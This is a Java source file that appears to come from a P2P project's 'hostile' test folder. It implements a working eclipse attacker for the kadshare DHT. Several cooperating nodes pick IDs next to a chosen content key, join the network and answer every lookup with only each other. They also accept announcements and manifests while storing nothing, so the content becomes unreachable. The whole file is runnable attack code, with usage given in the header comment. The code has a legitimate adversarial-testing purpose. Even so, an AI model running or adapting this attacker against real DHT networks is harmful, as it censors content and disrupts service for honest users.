/*
 * One attacker node of a targeted eclipse, run against real kadshare nodes with the node's own
 * KRPC codec on the class path (the node jar):
 *
 *   java -cp cli/target/kadshare.jar hostile/EclipseAttacker.java --content <64 hex> --index 3 \
 *       --attackers 8 --subnet 203.0.113 --port 6881 --bootstrap 10.1.0.1:4870 [--seconds 300]
 *
 * Attacker i (1..--attackers) binds --subnet.i:--port and takes the node ID that shares all but
 * its last byte with the content's DHT key (the last byte XOR i), so the attackers are the nodes
 * closest to the key. It joins like a node (find_node for its own ID to the bootstrap nodes and
 * to the nodes they name, once each, at most 64), then answers every query like a node that
 * holds nothing: find_node, get_peers and get_manifests with the other attackers only (closest
 * to the target first) and no holders or manifests, with a token; announce_peer and put_manifest
 * with an acknowledgement, storing nothing; ping with its ID. It prints one line when it is
 * listening and counts per method every 10 s, and stops by itself after --seconds.
 */

import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.SocketTimeoutException;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeMap;
import org.kadshare.overlay.dht.NodeId;
import org.kadshare.overlay.krpc.AnnouncePeerQuery;
import org.kadshare.overlay.krpc.ClientVersion;
import org.kadshare.overlay.krpc.FindNodeQuery;
import org.kadshare.overlay.krpc.GetManifestsQuery;
import org.kadshare.overlay.krpc.GetPeersQuery;
import org.kadshare.overlay.krpc.KrpcCodec;
import org.kadshare.overlay.krpc.KrpcDecodeException;
import org.kadshare.overlay.krpc.KrpcMessage;
import org.kadshare.overlay.krpc.KrpcQuery;
import org.kadshare.overlay.krpc.KrpcResponse;
import org.kadshare.overlay.krpc.NodeInfo;
import org.kadshare.overlay.krpc.PingQuery;
import org.kadshare.overlay.krpc.PutManifestQuery;
import org.kadshare.overlay.krpc.Token;
import org.kadshare.overlay.krpc.TransactionId;
import org.kadshare.storage.ContentId;

public final class EclipseAttacker {
    private static final Optional<ClientVersion> VERSION = Optional.of(ClientVersion.KADSHARE);
    private static final int MAX_JOIN_QUERIES = 64;

    public static void main(String[] args) throws Exception {
        Map<String, String> a = flags(args);
        NodeId key = NodeId.of(ContentId.parse(need(a, "--content")).dhtKey());
        int index = Integer.parseInt(need(a, "--index"));
        int count = Integer.parseInt(a.getOrDefault("--attackers", "8"));
        String subnet = a.getOrDefault("--subnet", "203.0.113");
        int port = Integer.parseInt(a.getOrDefault("--port", "6881"));
        long seconds = Long.parseLong(a.getOrDefault("--seconds", "300"));
        if (index < 1 || index > count || count > 254 || seconds < 1) {
            throw new IllegalArgumentException("need 1 <= --index <= --attackers <= 254 and --seconds >= 1");
        }
        List<NodeInfo> all = new ArrayList<>();
        for (int i = 1; i <= count; i++) {
            all.add(new NodeInfo(idNextTo(key, i), new InetSocketAddress(InetAddress.getByName(subnet + "." + i), port)));
        }
        NodeInfo me = all.get(index - 1);
        List<InetSocketAddress> bootstrap = new ArrayList<>();
        for (String b : need(a, "--bootstrap").split(",")) {
            int colon = b.lastIndexOf(':');
            bootstrap.add(new InetSocketAddress(InetAddress.getByName(b.substring(0, colon)),
                    Integer.parseInt(b.substring(colon + 1))));
        }
        Map<String, Integer> counts = new TreeMap<>();
        Set<InetSocketAddress> joinAsked = new HashSet<>();
        byte[] buffer = new byte[KrpcCodec.MAX_DATAGRAM_BYTES];
        long end = System.nanoTime() + seconds * 1_000_000_000L;
        long nextReport = System.nanoTime() + 10_000_000_000L;
        int tid = 0;
        try (DatagramSocket socket = new DatagramSocket(me.address())) {
            socket.setSoTimeout(500);
            System.out.println("attacker " + index + " listening on " + me.address() + " as " + me.id().toHex());
            for (InetSocketAddress b : bootstrap) {
                joinAsked.add(b);
                send(socket, b, new FindNodeQuery(TransactionId.of(new byte[] {'j', (byte) tid++}), me.id(), me.id(),
                        VERSION));
            }
            while (System.nanoTime() < end) {
                if (System.nanoTime() > nextReport) {
                    System.out.println("attacker " + index + " answered " + counts);
                    nextReport += 10_000_000_000L;
                }
                DatagramPacket packet = new DatagramPacket(buffer, buffer.length);
                try {
                    socket.receive(packet);
                } catch (SocketTimeoutException e) {
                    continue;
                }
                InetSocketAddress from = (InetSocketAddress) packet.getSocketAddress();
                KrpcMessage message;
                try {
                    message = KrpcCodec.decode(java.util.Arrays.copyOf(packet.getData(), packet.getLength()));
                } catch (KrpcDecodeException | RuntimeException e) {
                    continue;
                }
                if (message instanceof KrpcResponse r) {
                    for (NodeInfo n : r.nodes()) {           // joining: ask each named node once
                        if (joinAsked.size() < MAX_JOIN_QUERIES && joinAsked.add(n.address())) {
                            send(socket, n.address(), new FindNodeQuery(
                                    TransactionId.of(new byte[] {'j', (byte) tid++}), me.id(), me.id(), VERSION));
                        }
                    }
                    continue;
                }
                if (!(message instanceof KrpcQuery q)) {
                    continue;
                }
                KrpcMessage reply = answer(q, me, all);
                if (reply != null) {
                    counts.merge(q.method(), 1, Integer::sum);
                    send(socket, from, reply);
                }
            }
            System.out.println("attacker " + index + " answered " + counts + " (done)");
        }
    }

    private static KrpcMessage answer(KrpcQuery q, NodeInfo me, List<NodeInfo> all) {
        TransactionId t = q.transactionId();
        Optional<Token> token = Optional.of(Token.of(new byte[] {'e', 'c', 'l'}));
        if (q instanceof FindNodeQuery f) {
            return new KrpcResponse(t, me.id(), others(f.target(), me, all), List.of(), Optional.empty(), List.of(),
                    VERSION);
        } else if (q instanceof GetPeersQuery g) {
            return new KrpcResponse(t, me.id(), others(g.infoHash(), me, all), List.of(), token, List.of(), VERSION);
        } else if (q instanceof GetManifestsQuery g) {
            return new KrpcResponse(t, me.id(), others(g.key(), me, all), List.of(), token, List.of(), VERSION);
        } else if (q instanceof PingQuery || q instanceof AnnouncePeerQuery || q instanceof PutManifestQuery) {
            return KrpcResponse.ofId(t, me.id(), VERSION);
        }
        return null;
    }

    private static List<NodeInfo> others(NodeId target, NodeInfo me, List<NodeInfo> all) {
        return all.stream().filter(n -> !n.equals(me))
                .sorted((x, y) -> target.compareDistance(x.id(), y.id())).limit(8).toList();
    }

    private static NodeId idNextTo(NodeId key, int i) {
        byte[] id = key.toBytes();
        id[id.length - 1] ^= (byte) i;
        return NodeId.of(id);
    }

    private static void send(DatagramSocket socket, InetSocketAddress to, KrpcMessage m) throws java.io.IOException {
        byte[] bytes = KrpcCodec.encode(m);
        socket.send(new DatagramPacket(bytes, bytes.length, to));
    }

    private static Map<String, String> flags(String[] args) {
        Map<String, String> m = new java.util.HashMap<>();
        for (int i = 0; i < args.length; i += 2) {
            if (!args[i].startsWith("--") || i + 1 >= args.length) {
                throw new IllegalArgumentException("flags come as --name value pairs: " + String.join(" ", args));
            }
            m.put(args[i], args[i + 1]);
        }
        return m;
    }

    private static String need(Map<String, String> a, String flag) {
        String v = a.get(flag);
        if (v == null) {
            throw new IllegalArgumentException(flag + " is required");
        }
        return v;
    }
}
